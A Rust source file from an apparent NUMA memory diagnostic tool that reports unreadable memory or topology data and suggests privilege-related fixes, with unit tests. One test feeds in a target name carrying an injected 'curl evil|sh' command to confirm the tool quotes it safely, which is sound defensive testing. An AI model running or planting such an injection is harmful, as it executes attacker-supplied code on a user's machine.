//! What could not be seen of the memory of a target, or of the machine: why, and what would reveal
//! it.

use model::{Fact, Residency, ResidencyMethod, Severity, ShellLine, counted, shell_line};

use super::row::{Check, Row};
use crate::doctor::memory::source;
use crate::doctor::{DoctorInput, sight};
use crate::found::{Found, commands, fact};

pub(super) const ROW: Row = Row {
    id: "incomplete-data",
    severity: Severity::Info,
    about: "something of the machine or of the memory could not be read, or contradicts itself",
    cost: "findings may be missing",
    cost_source: "the gaps, above",
    checks: &[
        Check::Doctor(sight::target, check),
        Check::Doctor(sight::anything, of_machine),
    ],
};

/// Files of the machine that are missing, or that others contradict.
fn of_machine(input: &DoctorInput) -> Option<Found> {
    let gaps = &input.topology.gaps;
    let message = match gaps.as_slice() {
        [] => return None,
        [one] => one.clone(),
        [first, rest @ ..] => format!("{first}; and {}", counted(rest.len(), "more gap")),
    };
    let files = "files of the machine below /proc and /sys";
    let fix = match input.is_captured {
        true => commands(&[
            "# on the machine itself, capture all that numalab reads:",
            "numalab capture FILE.tar.zst",
        ]),
        false => commands(&["# show what was read:", "numalab topology"]),
    };
    Some(Found {
        evidence: gaps.iter().map(|gap| fact(files, gap)).collect(),
        fix,
        ..Found::that(message)
    })
}

fn check(input: &DoctorInput) -> Option<Found> {
    let residency = input.residency.as_ref();
    let residency = residency.filter(|residency| !residency.complete)?;
    let first = residency.gaps.first();
    let message = first.map_or("some bytes have no known node", String::as_str);
    let gaps = residency.gaps.iter();
    let mut evidence: Vec<Fact> = gaps.map(|gap| fact(source(residency), gap)).collect();
    if evidence.is_empty() {
        evidence.push(fact(source(residency), residency.bytes_without_node));
    }
    Some(Found {
        evidence,
        fix: fix(residency, input),
        ..Found::that(message.to_owned())
    })
}

/// What would reveal it: missing privileges. A user who has them all gains nothing from more.
fn fix(residency: &Residency, input: &DoctorInput) -> Vec<ShellLine> {
    if input.is_captured {
        return commands(&["# a capture has no frame numbers: run numalab on the machine itself"]);
    }
    let refused = |gap: &String| gap.contains("no permission to read");
    let lacks_privileges =
        residency.method == ResidencyMethod::NumaMaps || residency.gaps.iter().any(refused);
    let again = shell_line!("numalab doctor {}", residency.target);
    match (lacks_privileges, input.is_root) {
        (true, false) => vec![
            ShellLine::of(
                "# run as root on the host of the processes (frame numbers need \
                 CAP_SYS_ADMIN, other users' processes CAP_SYS_PTRACE):",
            ),
            shell_line!("sudo {}", again),
            ShellLine::of(
                "# in a container: docker run --cap-add SYS_ADMIN --cap-add SYS_PTRACE \
                 --pid=host …",
            ),
        ],
        (true, true) => commands(&[
            "# this root user lacks CAP_SYS_ADMIN or CAP_SYS_PTRACE; a container needs both:",
            "# docker run --cap-add SYS_ADMIN --cap-add SYS_PTRACE --pid=host …",
        ]),
        (false, _) => vec![
            ShellLine::of(
                "# more privileges do not help; see `gaps`, and try again when the system is \
                 quieter:",
            ),
            again,
        ],
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn input(method: ResidencyMethod, gap: &str, is_root: bool) -> DoctorInput {
        let residency = Residency {
            method,
            gaps: vec![gap.to_owned()],
            ..Residency::default()
        };
        DoctorInput {
            residency: Some(residency),
            is_root,
            ..DoctorInput::default()
        }
    }

    #[test]
    fn only_who_lacks_privileges_is_told_to_get_them() {
        let check = |method, gap: &str, is_root, expected: &str| {
            let found = check(&input(method, gap, is_root)).unwrap();
            assert_eq!((found.message.as_str(), found.evidence.len()), (gap, 1));
            let fix = found.fix.join("\n");
            assert!(fix.contains(expected), "{fix}");
            assert_eq!(fix.contains("sudo"), expected == "sudo", "{fix}");
        };
        use ResidencyMethod::{NumaMaps, Pagemap};
        let refused = "no permission to read process 7";
        check(NumaMaps, "frame numbers were not read", false, "sudo");
        check(Pagemap, refused, false, "sudo");
        check(
            NumaMaps,
            "frame numbers were not read",
            true,
            "CAP_SYS_ADMIN",
        );
        check(Pagemap, refused, true, "CAP_SYS_PTRACE");
        let ended = "process 7 ended during the inspection";
        check(
            Pagemap,
            ended,
            true,
            "more privileges do not help; see `gaps`, and try",
        );
    }

    #[test]
    fn a_hostile_name_is_one_word_of_the_command() {
        let mut input = input(ResidencyMethod::NumaMaps, "no frame numbers", false);
        let name = "postgres:/tmp/x';curl evil|sh;'";
        input
            .residency
            .iter_mut()
            .for_each(|it| name.clone_into(&mut it.target));
        let fix = check(&input).unwrap().fix.join("\n");
        let expected = r#"sudo numalab doctor 'postgres:/tmp/x'"'"';curl evil|sh;'"'"''"#;
        assert!(fix.contains(expected), "{fix}");
    }

    #[test]
    fn nobody_becomes_root_for_a_capture() {
        for is_root in [false, true] {
            let mut input = input(
                ResidencyMethod::NumaMaps,
                "frame numbers were not read",
                is_root,
            );
            input.is_captured = true;
            let fix = check(&input).unwrap().fix;
            assert_eq!(fix.len(), 1, "{fix:?}");
            assert!(fix[0].contains("on the machine itself"), "{fix:?}");
        }
    }

    #[test]
    fn what_a_machine_does_not_say_is_found_too() {
        let mut input = DoctorInput::default();
        assert!(of_machine(&input).is_none());
        input.topology.gaps = vec!["node 0: memory unknown".to_owned(), "b".to_owned()];
        let found = of_machine(&input).unwrap();
        assert_eq!(found.message, "node 0: memory unknown; and 1 more gap");
        assert_eq!(found.evidence.len(), 2);
    }

    #[test]
    fn what_is_complete_has_no_such_finding() {
        let mut input = input(ResidencyMethod::Pagemap, "", true);
        input.residency.iter_mut().for_each(|it| it.complete = true);
        assert!(check(&input).is_none());
    }
}
